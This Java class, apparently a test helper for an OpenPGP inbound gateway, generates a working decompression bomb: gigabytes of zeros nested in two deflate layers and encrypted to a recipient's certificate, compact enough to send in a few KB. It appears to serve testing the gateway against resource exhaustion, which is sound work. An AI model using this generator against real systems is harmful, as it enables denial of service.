package io.liaison.gateway.inbound;

import io.liaison.gateway.keys.openpgp.OpenPgpGatewayKey;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Date;
import java.util.zip.Deflater;
import org.bouncycastle.bcpg.ArmoredOutputStream;
import org.bouncycastle.bcpg.CompressionAlgorithmTags;
import org.bouncycastle.bcpg.SymmetricKeyAlgorithmTags;
import org.bouncycastle.openpgp.PGPCompressedDataGenerator;
import org.bouncycastle.openpgp.PGPEncryptedDataGenerator;
import org.bouncycastle.openpgp.PGPException;
import org.bouncycastle.openpgp.api.OpenPGPCertificate;
import org.bouncycastle.openpgp.api.OpenPGPImplementation;
import org.bouncycastle.openpgp.operator.PGPDataEncryptorBuilder;

/**
 * An OpenPGP decompression bomb, as anyone holding the gateway's public certificate can make one: a
 * literal data packet of zeros inside a compressed data packet (raw deflate, RFC 9580 §5.6), itself
 * compressed again by a second compressed data packet, encrypted to the certificate, unsigned.
 *
 * <p>Deflating GiBs of zeros would take minutes on a loaded machine, so the inner deflate stream is
 * assembled instead: one MiB of zeros deflated once with a full flush (byte-aligned, independent of what
 * came before), that block repeated, then an empty final block. A valid stream, made in milliseconds and
 * a few MiB of memory; the outer compression shrinks the repeats to a few KB.
 */
public final class DecompressionBomb {
    private static final OpenPGPImplementation IMPL = OpenPgpGatewayKey.implementation();
    private static final int CHUNK = 1 << 20;
    private static final int LITERAL_DATA_TAG = 0xC0 | 11;
    private static final int COMPRESSED_DATA_TAG = 0xC0 | 8;

    private DecompressionBomb() {
    }

    /**
     * The armored message, encrypted to {@code recipient}, whose literal data is {@code expandedMiB} MiB
     * of zeros (less than 4096, the most one five-octet packet length holds).
     */
    public static String armored(int expandedMiB, OpenPGPCertificate recipient, Instant at) {
        if (expandedMiB <= 0 || expandedMiB >= 4096) {
            throw new IllegalArgumentException("1 to 4095 MiB");
        }
        long expanded = (long) expandedMiB * CHUNK;
        try {
            // Literal data: format 'b', no file name, the date; then the zeros.
            ByteBuffer literal = ByteBuffer.allocate(12);
            literal.put((byte) LITERAL_DATA_TAG).put((byte) 0xFF).putInt((int) (6 + expanded));
            literal.put((byte) 'b').put((byte) 0).putInt((int) (at.getEpochSecond()));
            byte[] head = flushed(literal.array(), false);
            byte[] zeros = flushed(new byte[CHUNK], false);
            byte[] end = flushed(new byte[0], true);
            long compressedLength = 1 + head.length + (long) zeros.length * expandedMiB + end.length;

            PGPDataEncryptorBuilder data = IMPL.pgpDataEncryptorBuilder(SymmetricKeyAlgorithmTags.AES_256);
            data.setWithIntegrityPacket(true);
            PGPEncryptedDataGenerator encryption = new PGPEncryptedDataGenerator(data);
            for (OpenPGPCertificate.OpenPGPComponentKey k : recipient.getEncryptionKeys(Date.from(at))) {
                encryption.addMethod(IMPL.publicKeyKeyEncryptionMethodGenerator(k.getPGPPublicKey()));
            }
            ByteArrayOutputStream armored = new ByteArrayOutputStream();
            try (ArmoredOutputStream armor = ArmoredOutputStream.builder().clearHeaders().build(armored);
                 OutputStream encrypted = encryption.open(armor, new byte[1 << 16]);
                 OutputStream outer = new PGPCompressedDataGenerator(CompressionAlgorithmTags.ZIP, 9).open(encrypted, new byte[1 << 16])) {
                outer.write(ByteBuffer.allocate(7).put((byte) COMPRESSED_DATA_TAG).put((byte) 0xFF)
                        .putInt((int) compressedLength).put((byte) CompressionAlgorithmTags.ZIP).array());
                outer.write(head);
                for (int i = 0; i < expandedMiB; i++) {
                    outer.write(zeros);
                }
                outer.write(end);
            }
            return armored.toString(StandardCharsets.US_ASCII);
        } catch (IOException | PGPException e) {
            throw new IllegalStateException("cannot make the bomb", e);
        }
    }

    /** Raw deflate of {@code input} alone, ending byte-aligned (a full flush) or as the final block. */
    private static byte[] flushed(byte[] input, boolean last) {
        Deflater deflater = new Deflater(9, true);
        try {
            deflater.setInput(input);
            if (last) {
                deflater.finish();
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            byte[] buffer = new byte[8192];
            while (true) {
                int n = last ? deflater.deflate(buffer) : deflater.deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH);
                out.write(buffer, 0, n);
                if (last ? deflater.finished() : n < buffer.length) {
                    return out.toByteArray();
                }
            }
        } finally {
            deflater.end();
        }
    }
}
